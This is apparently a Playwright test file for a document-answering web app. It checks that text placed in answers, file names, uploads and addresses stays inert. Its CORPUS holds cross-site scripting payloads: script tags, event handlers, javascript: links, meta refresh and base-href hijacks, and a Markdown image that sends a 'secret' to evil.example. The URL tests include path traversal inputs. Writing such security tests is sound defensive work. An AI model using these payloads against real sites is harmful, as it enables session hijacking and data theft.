"""Text that would act if it were taken for markup, in every place of the page: nothing runs, no request leaves."""

from dataclasses import replace

import pytest
from playwright.async_api import Browser, Page, expect

from api.app.fastapi_app import create_app
from fakes.answerer import ScriptedAnswerer, answer, telling
from fakes.behind_the_page import FakeDocument, Front, cited
from fakes.browser import MISSING, WHY_MISSING, shot
from fakes.services import fake_services
from fakes.serving import serving
from rag.types import Near

pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.skipif(MISSING, reason=WHY_MISSING),
]

CORPUS = {
    "a script": "<script>window.hacked=1;fetch('http://evil.example/s')</script>",
    "a picture": '"><img src="http://evil.example/i.png" onerror="window.hacked=1">',
    "an svg": "<svg/onload=window.hacked=1><use href='http://evil.example/u.svg#x'/></svg>",
    "a link": "<a href='javascript:window.hacked=1' autofocus onfocus=window.hacked=1>x</a>",
    "a frame": "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><object data='data:text/html,x'></object>",
    "a style": "<style>@import 'http://evil.example/c.css';</style><link rel=stylesheet href=http://evil.example/l.css>",
    "a form": "<form action=http://evil.example/f><button formaction='javascript:window.hacked=1'>x</form>",
    "a page": "</title></textarea></noscript><base href=//evil.example>"
    "<meta http-equiv=refresh content='0;url=http://evil.example/m'>",
    "Markdown": "![x](http://evil.example/a?q=secret) [y](javascript:window.hacked=1) <http://evil.example> ![z][r]\n\n"
    "[r]: http://evil.example/r.png\n\n[w](data:text/html,<script>window.hacked=1</script>)",
    "a mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    "a template": "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1}"
    "<template><img src=x onerror=window.hacked=1></template>",
}
LIVE = (
    "img:not(.page-picture), iframe, object, embed, style, base, form[action], [onerror], [onload], [onfocus], template"
)


def everywhere(text: str) -> tuple[Front, ScriptedAnswerer]:
    """A server all of whose words are the text."""
    name = text.replace("/", "∕").replace("\n", " ")  # a name of one folder
    paper = FakeDocument(
        f"{name}/{name}.pdf", f"Before {text} after\fNext", title=text, paged=True, uploaded=True, heading=text
    )
    told = cited(answer(f"# {text}\n\n{text} [1].\n\n- {text}", {1: text}, verdicts=("weak",) * 9, model=text), paper)
    sentences = tuple(replace(one, finding=text) for one in told.sentences)
    near = (Near(paper.path, text, paper.place(text)),)
    told = replace(told, sentences=sentences, unanswered=text, cut_short=text, status="partly", nearest=near)
    uploaded = name.replace('"', "%22")  # as browsers send it
    failed = ("finished", {"failed": [{"path": f"uploads/{uploaded}.txt", "reason": text}]})
    return Front([paper], events=[failed]), ScriptedAnswerer(*telling(told))


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
async def test_text_is_text_wherever_it_stands(browser: Browser, text: str) -> None:
    front, answerer = everywhere(text)
    app = front.before(create_app(fake_services(answerer, advice=text)))
    async with serving(app) as address, await browser.new_context() as tab:
        page = await tab.new_page()
        left: list[str] = []
        await tab.route(
            lambda url: not url.startswith(address), lambda route: (left.append(route.request.url), route.abort())
        )
        page.on("dialog", lambda dialog: left.append(dialog.message))
        await page.goto(address)
        await _go_everywhere(page, text)
        await shot(page, "hostile")
        assert left == []
        assert await page.evaluate("window.hacked") is None
        assert await page.locator(f":is(#conversation, #side, #viewer, #tip) :is({LIVE})").count() == 0
        assert await page.locator("#conversation a, #viewer-body a").count() == 0
        assert page.url.startswith(address)


async def _go_everywhere(page: Page, text: str) -> None:
    await page.get_by_label("Your question").fill(text)
    await page.keyboard.press("Enter")
    await expect(page.locator(".foot")).to_have_count(1)
    await expect(page.locator("#conversations .entry")).to_have_count(1)
    upload = {"name": text.replace("/", "∕").replace("\n", " ") + ".txt", "mimeType": "text/html", "buffer": b"x"}
    await page.locator("#picker").set_input_files(upload)
    await expect(page.locator(".job.failed")).to_have_count(1)
    await page.locator("#documents .only").first.click()
    await page.locator("button.marker").first.hover()
    await expect(page.locator("#tip")).to_be_visible()
    await page.locator("button.marker").first.click()
    await expect(page.locator("img.page-picture")).to_be_visible()
    await page.get_by_role("button", name="Text", exact=True).click()
    await expect(page.locator("mark.quoted")).to_have_text(text)
    await page.reload()
    await expect(page.locator(".foot")).to_have_count(1)


@pytest.mark.parametrize(
    "at",
    [
        "/view/%E0%A4%A?start=1&end=2",
        "/view/%3Cimg%20src=x%20onerror=window.hacked=1%3E?start=%3Cscript%3E&end=-1&page=1e9",
        "/#c=%3Cimg%20src=x%20onerror=window.hacked=1%3E",
        "/#c=..%2F..%2Fsession",
    ],
)
async def test_an_address_names_things_and_does_nothing(browser: Browser, at: str) -> None:
    app = Front([]).before(create_app(fake_services(ScriptedAnswerer())))
    async with serving(app) as address, await browser.new_context() as tab:
        page = await tab.new_page()
        complaints: list[str] = []
        page.on("pageerror", lambda error: complaints.append(str(error)))
        await page.goto(address + at)
        told = page.get_by_text("There is no such document.").or_(
            page.get_by_text("This conversation is not there any")
        )
        await expect(told).to_be_visible()
        assert await page.evaluate("window.hacked") is None
        assert complaints == []
